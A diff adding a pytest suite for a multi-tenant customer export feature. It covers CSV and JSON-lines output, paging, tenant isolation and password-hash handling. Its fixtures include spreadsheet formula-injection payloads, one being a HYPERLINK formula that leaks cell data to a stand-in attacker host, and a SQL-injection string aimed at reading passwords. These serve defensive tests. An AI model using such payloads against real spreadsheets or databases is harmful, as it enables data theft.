@@ -1,0 +1,193 @@
+"""Customers are taken away as a file, streamed page by page, by nobody who may not, and computed by no spreadsheet."""
+
+import csv
+import io
+import json
+from collections.abc import Iterator
+
+import pytest
+from django.db import connection
+from django_tenants.utils import schema_context, tenant_context
+
+from accounts.identity.services.accounts import create_account, delete_account, update_profile
+from accounts.identity.services.groups import add_to_group, create_group
+from accounts.models import Account
+from audit.models import Event
+from bulk.exports import services
+from bulk.exports.cells import safe_cell
+from bulk.exports.columns import csv_line, known_columns
+from bulk.exports.services import everybody, export_customers
+from common.problems import Refused
+from frame.downloads import streamed
+from tenants.lookup import PUBLIC
+from tenants.models import Tenant
+from tenants.postgresql import current_schema
+from tests.bulk.files import ACTOR, imported
+
+COLUMNS = ["email", "givenName", "loyaltyNumber", "groups"]
+FORMULAS = {
+    '=HYPERLINK("https://eve.example?"&A1)': '\'=HYPERLINK("https://eve.example?"&A1)',
+    "+cmd": "'+cmd",
+    "-2+3+cmd": "'-2+3+cmd",
+    "@SUM(A1)": "'@SUM(A1)",
+    "＝1+1": "'＝1+1",
+    "-1": "-1",
+    "+49 (221) 12/34": "+49 (221) 12/34",
+    'plain, "quoted"': 'plain, "quoted"',
+    "": "",
+}
+
+
+def text_of(pieces: Iterator[bytes]) -> str:
+    return b"".join(pieces).decode()
+
+
+def rows_of(pieces: Iterator[bytes]) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text_of(pieces))))
+
+
+def exported(kind: str = "csv", **chosen: object) -> Iterator[bytes]:
+    return export_customers(everybody(), columns=COLUMNS, kind=kind, actor=ACTOR, **chosen)  # type: ignore[arg-type]
+
+
+@pytest.fixture
+def carol_in_group(acme: Tenant) -> Account:
+    with tenant_context(acme):
+        carol = Account.objects.get(email="carol@acme.example")
+        for name in ("Wholesale", "Abroad"):
+            add_to_group(create_group(name=name, actor=ACTOR), account=carol, actor=ACTOR)
+        return carol
+
+
+def test_a_spreadsheet_has_the_columns_that_were_chosen(acme: Tenant, carol_in_group: Account) -> None:
+    with tenant_context(acme):
+        rows = rows_of(exported())
+        assert rows == [
+            {
+                "email": "carol@acme.example",
+                "givenName": "Carol",
+                "loyaltyNumber": "C-1001",
+                "groups": "Abroad; Wholesale",
+            },
+            {"email": "dan@acme.example", "givenName": "Dan", "loyaltyNumber": "", "groups": ""},
+        ]
+        told = Event.objects.get(action="customers.exported")
+        assert (told.actor_name, told.details["columns"]) == ("A test", COLUMNS)
+
+
+def test_json_lines_lose_nothing(acme: Tenant, carol_in_group: Account) -> None:
+    with tenant_context(acme):
+        lines = [json.loads(line) for line in text_of(exported("jsonl")).splitlines()]
+        assert lines == [
+            {
+                "email": "carol@acme.example",
+                "givenName": "Carol",
+                "loyaltyNumber": "C-1001",
+                "groups": ["Abroad", "Wholesale"],
+            },
+            {"email": "dan@acme.example", "givenName": "Dan"},
+        ]
+
+
+@pytest.mark.parametrize(("typed", "cell"), FORMULAS.items())
+def test_p43_no_cell_is_a_formula_to_a_spreadsheet(acme: Tenant, typed: str, cell: str) -> None:
+    assert safe_cell(typed) == cell
+    with tenant_context(acme):
+        carol = Account.objects.get(email="carol@acme.example")
+        Account.objects.filter(pk=carol.pk).update(given_name=typed)
+        assert rows_of(exported())[0]["givenName"] == cell
+
+
+def test_what_was_exported_is_imported_as_it_was(acme: Tenant, globex: Tenant) -> None:
+    with tenant_context(acme):
+        carol = Account.objects.get(email="carol@acme.example")
+        update_profile(
+            carol, attributes={"givenName": "=Carol", "jobTitle": 'He said "no"', "country": "FR"}, actor=ACTOR
+        )
+        columns = ["email", "givenName", "surname", "jobTitle", "country"]
+        content = text_of(export_customers(everybody(), columns=columns, kind="csv", actor=ACTOR))
+        lines = text_of(export_customers(everybody(), columns=columns, kind="jsonl", with_hashes=True, actor=ACTOR))
+        before = list(everybody().order_by("email").values_list(*_COPIED))
+    with tenant_context(globex):
+        _forget_everybody()
+        assert imported(content).done == 2
+        assert [row[:-1] for row in everybody().order_by("email").values_list(*_COPIED)] == [row[:-1] for row in before]
+        _forget_everybody()
+        assert imported(lines).done == 2
+        assert list(everybody().order_by("email").values_list(*_COPIED)) == before
+
+
+def _forget_everybody() -> None:
+    with connection.cursor() as cursor:
+        cursor.execute("DELETE FROM accounts_account")
+
+
+_COPIED = ("email", "given_name", "surname", "job_title", "country", "password")
+
+
+def test_pages_follow_each_other_without_gap_or_repetition(acme: Tenant, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(services, "FIRST_PAGE", 2)
+    monkeypatch.setattr(services, "PAGE", 3)
+    with tenant_context(acme):
+        # Many that came in one moment.
+        imported("email\n" + "".join(f"person{number}@acme.example\n" for number in range(11)))
+        pieces = list(exported())
+        assert len(pieces) > 4
+        emails = [row["email"] for row in rows_of(iter(pieces))]
+        assert len(emails) == len(set(emails)) == Account.objects.count()
+
+
+def test_deleted_customers_arent_exported(acme: Tenant) -> None:
+    with tenant_context(acme):
+        delete_account(Account.objects.get(email="dan@acme.example"), actor=ACTOR)
+        assert [row["email"] for row in rows_of(exported())] == ["carol@acme.example"]
+
+
+def test_t44_two_tenants_streams_read_at_once_stay_apart(
+    acme: Tenant, globex: Tenant, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """T-44: what makes a file runs after the request, when the connection serves whoever came next."""
+    monkeypatch.setattr(services, "FIRST_PAGE", 1)
+    monkeypatch.setattr(services, "PAGE", 1)
+    streams = []
+    for tenant in (acme, globex):
+        with tenant_context(tenant):
+            create_account(email="same@everywhere.example", password=None, email_verified=True, actor=ACTOR)
+            made = export_customers(everybody(), columns=["email"], kind="csv", actor=ACTOR)
+            streams.append(streamed(tenant, made, file_name="customers.csv"))
+
+    read: list[list[bytes]] = [[], []]
+    with schema_context(PUBLIC):
+        iterators = [iter(stream) for stream in streams]  # type: ignore[arg-type]
+        for _ in range(6):
+            for pieces, iterator in zip(read, iterators, strict=True):
+                pieces.append(next(iterator, b""))
+                assert current_schema() == PUBLIC
+    told = [[row["email"] for row in rows_of(iter(pieces))] for pieces in read]
+    assert told == [
+        ["carol@acme.example", "dan@acme.example", "same@everywhere.example"],
+        ["eve@globex.example", "same@everywhere.example"],
+    ]
+
+
+def test_p43_hashes_leave_in_json_lines_alone_and_never_unasked(acme: Tenant) -> None:
+    with tenant_context(acme):
+        assert "passwordHash" not in known_columns(["loyaltyNumber"])
+        for asked in (["password"], ["passwordHash"], ["email", "custom_attributes"], []):
+            with pytest.raises(Refused):
+                export_customers(everybody(), columns=asked, kind="jsonl", actor=ACTOR)
+        with pytest.raises(Refused, match="JSON lines only"):
+            exported("csv", with_hashes=True)
+        with pytest.raises(Refused):
+            exported("xlsx")
+        assert "argon2" not in text_of(exported("jsonl")) + text_of(exported("csv"))
+        assert "argon2" in text_of(exported("jsonl", with_hashes=True))
+        assert Event.objects.filter(details__password_hashes=True).count() == 1
+
+
+def test_a_name_that_holds_sql_is_a_name(acme: Tenant) -> None:
+    name = "x', (SELECT password FROM accounts_account LIMIT 1), '%s %(x)s"
+    with tenant_context(acme):
+        parameters: dict[str, str] = {}
+        assert name not in csv_line([name], parameters)
+        assert list(parameters.values()) == [name]
